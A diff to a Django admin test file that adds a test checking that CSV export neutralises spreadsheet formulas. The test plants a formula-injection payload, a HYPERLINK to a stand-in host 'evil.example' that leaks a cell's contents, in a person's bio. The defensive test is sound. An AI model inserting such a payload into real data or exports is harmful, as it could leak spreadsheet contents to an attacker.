@@ -1,5 +1,7 @@
 """The admin as moderators and superusers meet it: permissions, audit, validation, lock-out."""
 
+import csv
+import io
 import os
 from unittest import mock
 
@@ -10,7 +12,7 @@ from django.core.management import call_command
 from django.test import Client
 
 from debates.models import Comment, Position
-from members.models import Membership, Organization
+from members.models import Membership, Organization, Person
 
 PASSWORD = "a-long-and-unguessable-password"
 CONTENT = [
@@ -260,3 +262,15 @@ def test_bulk_assign_a_topic(seed, moderator):
     )
     assert Position.objects.filter(pk__in=pks, topics=topic).count() == len(pks) == 3
     assert Position.objects.filter(topics=topic, search_terms__contains="Biosecurity").count() >= 3
+
+
+def test_export_as_csv_neutralises_formulas(seed, moderator):
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    person = Person.objects.get(slug="yann-lecun")
+    person.bio = formula
+    person.save()
+    response = client_for(moderator).post(
+        "/admin/members/person/", {"action": "export_as_csv", "_selected_action": [person.pk]}
+    )
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert rows[0]["bio"] == "'" + formula
